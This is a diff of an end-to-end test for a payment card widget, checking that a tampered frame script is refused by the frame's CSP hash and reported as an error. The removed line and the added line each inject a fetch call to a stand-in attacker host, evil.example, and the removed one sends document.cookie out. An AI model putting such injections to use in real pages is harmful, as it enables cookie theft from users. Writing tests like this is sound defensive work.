@@ -33,9 +33,9 @@ test("a tampered stylesheet is refused and reported through onError; the form st
   await expect(checkout.hint("cardNumber")).toHaveText(errorMessages.cardNumberError);
 });
 
-test("a tampered frame script is refused; the widget reports the silent fields", async ({ page }) => {
+test("a tampered frame script is refused by the frame's CSP hash; the widget reports the silent fields", async ({ page }) => {
   test.slow();
-  await tamper(page, /\/v1\/frames\/card-field\.js/, (js) => `${js};fetch("https://evil.example/"+document.cookie)`);
+  await tamper(page, /\/v1\/frames\/card-field\.html/, (html) => html.replace("</script>", ';fetch("https://evil.example/")</script>'));
   const checkout = new CheckoutPage(page);
   await checkout.open();
   await expect(checkout.events).toContainText("error: PciIframeCommunicationError", { timeout: 15_000 });
